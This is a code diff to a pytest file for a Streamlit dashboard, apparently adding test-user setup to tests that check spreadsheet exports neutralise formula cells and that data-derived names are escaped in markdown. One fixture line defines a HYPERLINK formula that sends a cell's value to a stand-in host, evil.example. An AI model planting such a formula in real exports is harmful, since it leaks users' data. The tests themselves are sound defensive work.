@@ -13,7 +13,7 @@ import pytest
 from streamlit.testing.v1 import AppTest
 
 from dashboards.components.text import md
-from tests.conftest import REPO, WORLD_END
+from tests.conftest import REPO, WORLD_END, write_test_users
 from tests.dashboards.conftest import doctored, drawn_downloads, open_app, switch_page
 
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A2,"x")'
@@ -32,6 +32,8 @@ def _export_script():
 
 def test_formula_cells_are_neutralised_and_numbers_stay_numbers(tmp_path, monkeypatch):
     monkeypatch.setenv("GRIDSIGHT_DATA_DIR", str(tmp_path))
+    write_test_users(tmp_path)
+    monkeypatch.setenv("GRIDSIGHT_USER", "leader")   # the script is not the app: single-user mode
     downloads = drawn_downloads(monkeypatch)
     app = AppTest.from_function(_export_script, default_timeout=30).run()
     assert not app.exception, app.exception
@@ -77,7 +79,7 @@ def test_hostile_area_names_leave_the_population_export_as_text(world, tmp_path,
 @pytest.mark.slow
 def test_source_and_user_names_from_data_are_text_in_markdown(world, tmp_path, monkeypatch, marts):
     data_dir = hostile_world(world, marts, tmp_path)
-    app = open_app(monkeypatch, data_dir, today=WORLD_END)
+    app = open_app(monkeypatch, data_dir, today=WORLD_END, pinned=True)   # a user without a password
     banner = app.warning[0].value
     assert md(LINK) in banner and md(IMAGE) in banner
     assert LINK not in banner and IMAGE not in banner
